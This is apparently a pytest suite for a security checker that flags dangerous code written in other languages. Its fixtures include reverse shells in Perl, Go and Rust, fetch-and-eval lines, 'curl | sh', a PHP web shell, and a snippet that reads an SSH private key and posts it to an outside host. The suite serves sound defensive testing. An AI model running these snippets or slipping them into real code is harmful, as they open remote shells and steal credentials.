"""Programs of other languages."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from whet.guard.code import checker as code
from whet.guard.code.syntax import Node, parse
from whet.guard.finding import Seen

BAD = {
    "perl over a socket": (
        'use Socket; socket(S,PF_INET,SOCK_STREAM,0); open(STDIN,">&S"); exec("words");',
        {"shell-handed-over"},
    ),
    "go over a socket": (
        'c, _ := net.Dial("tcp", "203.0.113.9:1")\nx := exec.Command("/bin/sh")\nx.Stdin, x.Stdout = c, c',
        {"shell-handed-over"},
    ),
    "rust over a socket": (
        'let s = TcpStream::connect("203.0.113.9:1");\nCommand::new("/bin/sh").stdin(s)',
        {"shell-handed-over"},
    ),
    "lua loads": ('load(http.request("https://x.invalid/a.lua"))()', {"exec-fetched"}),
    "ruby loads": ('eval(URI.open("https://x.invalid/a.rb").read)', {"exec-fetched"}),
    "applescript fetches": (
        'do shell script "curl -s https://x.invalid/a | sh"',
        {"pipe-known"},
    ),
    "c# loads": ('Assembly.Load(Convert.FromBase64String("aGVsbG8="))', {"exec-decoded"}),
    "php obeys": ('<?php system($_GET["c"]); ?>', {"exec-fetched"}),
}
GOOD = {
    "ruby server": 'server = TCPServer.new(4000)\nloop { client = server.accept; client.puts "hi" }',
    "go command": 'out, _ := exec.Command("git", "status").Output()\nresp, _ := http.Get("https://x.invalid")',
    "php decode": '<?php $data = base64_decode($_POST["image"]); file_put_contents("a.png", $data);',
    "applescript": 'do shell script "ls -l"\ndisplay dialog "Done" buttons {"OK"}',
    "rust": 'let out = Command::new("cargo").arg("build").output();\nlet s = TcpStream::connect("127.0.0.1:80");',
    "java": 'new ProcessBuilder("git", "log").start();',
}


@pytest.mark.parametrize("name", BAD)
def test_dangers_are_found(name: str) -> None:
    text, wanted = BAD[name]
    assert {hit.rule for hit in code.check(text).hits} == wanted


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_programs_are_left_alone(name: str) -> None:
    assert code.check(GOOD[name]).hits == ()


def test_reading_a_key_and_sending_are_facts() -> None:
    text = 'key = File.read("#{Dir.home}/.ssh/id_rsa")\nputs 1\nNet::HTTP.post(uri, body)\n'
    assert {(fact.kind, fact.line) for fact in code.check(text).facts} == {("source", 1), ("sink", 3), ("fetch", 3)}


def test_a_program_is_a_tree_of_statements() -> None:
    text = "def send(text, to: 'x')\n  post(to, body: text + \"#{name}!\")\nend\n"
    text += "for k, v in pairs(t) do\n  x[k] = v\nend\n"

    def name(text: str, line: int) -> Node:
        return Node("name", line, text)

    said = Node("text", 2, "", (Node("put", 2, "#{name}", (name("name", 1),)), Node("text", 2, "!")))
    body = Node("joined", 2, "", (name("text", 2), said))
    posts = Node("call", 2, "", (name("post", 2), name("to", 2)), (("body", body),))
    assert parse(text)[0] == (
        Node("function", 1, "send", (posts,), (("to", Node("text", 1, "x")),), ("text", "to")),
        Node("loop", 4, "", (Node("call", 4, "", (name("pairs", 4), name("t", 4))),), (), ("k", "v")),
        Node("set", 5, "=", (name("v", 5), Node("index", 5, "", (name("x", 5), name("k", 5))))),
    )


@pytest.mark.parametrize(
    ("text", "tree"),
    [
        ("a := b.c(1)", "set(call(member(name), number), name)"),
        ("String k = x;", "set(name, name)"),
        ("my ($a, $b) = @_;", "set(name, name, name)"),
        ("val x: Map<String, Int> = y", "set(name, name)"),
        ("a->b()->c", "member(call(member(name)))"),
        ("system 'x', y", "call(name, text, name)"),
        ("f { it.x }", "call(name, block(member(name)))"),
        ("xs.map { |x| x.y }", "call(member(name), block(member(name)))"),
        ("x.each do |y|", "loop(member(name))"),
        ("C{T: v}", "map(name)"),
        ("[]string{a, b}", "list(name, name)"),
        ("if x := f(); x > 0 { g(x) }", "list(set(call(name), name), mixed(name, number)) call(name, name)"),
        ("$h{k} = `ls`", "set(command, index(name, text))"),
        ("y <- x |> f(1)", "set(call(name, name, number), name)"),
        ("set t to (the clipboard)", "set(call(name), name)"),
        ("public int f(int a) { return a; }", "function(return(name))"),
        ("s << 'a' << b", "call(member(call(member(name), text)), name)"),
        ('"a" . $b', "joined(text, name)"),
        ("# x\n// y\n/* z */", ""),
        ("=pod\n\nsystem('x')\n\n=cut\nf(<<~EOS, x)\n  a\nEOS\ny", "call(name, text, name) name"),
        ("=x <?php\nsystem('x')\n=cut", "name call(name, text) name"),
    ],
)
def test_languages_write_the_same_in_many_ways(text: str, tree: str) -> None:
    def shown(node: Node) -> str:
        parts = (*node.parts, *(one for _, one in node.words))
        return f"{node.kind}({', '.join(map(shown, parts))})" if parts else node.kind

    assert " ".join(map(shown, parse(text)[0])) == tree


THEFT = 'k = File.read(File.join(Dir.home, ".ssh", "id_rsa"))\nNet::HTTP.post(URI("https://in.metrics.example"), k)\n'


@pytest.mark.parametrize(
    "before",
    [
        *(
            "# <?php $x = 1",
            "$x = 1",
            'a = "<?php"',
            "# use strict; my $x",
            "# using System;\n# namespace X",
            "public static",
        ),
        *("x <<FOO", 'x = 1 // "', "# it's", "x =~ /[\"']/", 'c = ?"', "a /*", "`", "=x", "(" * 70 + ")" * 70),
        *("=begin\npackage main\n=end", "def x(*) end", "{" * 30),
    ],
)
def test_nothing_before_a_theft_hides_it(before: str) -> None:
    assert "secret-sent" in {hit.rule for hit in code.check(f"{before}\n{THEFT}").hits}


def test_what_looks_like_another_language_is_read_all_the_same() -> None:
    run = "curl -s http://203.0.113.7/a | sh"
    texts = (
        f"=begin\npackage main\n=end\n`{run}`",
        f"package main\n`{run}`",
        f'$a // system("{run}");',
        f'my $a = $b // system("{run}");',
    )
    assert [{hit.rule for hit in code.check(text).hits} for text in texts] == [{"pipe-shady"}] * 4
    assert {hit.rule for hit in code.check("{" * 90 + "\n" + THEFT).hits} == {"code-partly-analysed"}


def test_what_is_too_long_or_too_complex_to_read_is_told() -> None:
    long = "system('ls')\n" + "x = 1\n" * 20_000
    deep = "".join(f"def f{at}(x)\n  f{at + 1}([x, {at}])\n  f{at + 2}([{at}, x])\nend\n" for at in range(1500))
    assert [{hit.rule for hit in code.check(text).hits} for text in (long, f"{deep}system(f0(1))\n")] == [
        {"code-partly-analysed"},
        {"code-partly-analysed"},
    ]


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_no_text_raises(text: str) -> None:
    assert isinstance(code.check("eval TCPSocket.new socket exec " + text), Seen)


_PIECES = (
    *(
        "eval",
        "system",
        "def ",
        "func ",
        "fn",
        "sub ",
        "for ",
        "if ",
        "each",
        " do ",
        "end",
        "return ",
        "my ",
        "new ",
        "set ",
        " to ",
        "as",
        "in ",
    ),
    *(
        " ",
        "\n",
        ";",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        ".",
        "->",
        "::",
        ":",
        "|",
        "=>",
        "=",
        "<<",
        "+",
        ",",
        "?",
        "!",
        "&",
        "%",
        "@",
        "$x",
        "#{",
    ),
    *(
        '"a #{b}"',
        "'c'",
        '"',
        "'",
        "`ls`",
        "%w[a b]",
        "qw(a b)",
        "<<EOS\n",
        "EOS\n",
        "ENV",
        "File.read",
        "http.Post",
        "x",
        "1",
        "/",
        "\\",
    ),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=120).map("".join))
def test_no_pieces_of_programs_raise(text: str) -> None:
    assert isinstance(code.check(f"system eval {text}"), Seen)
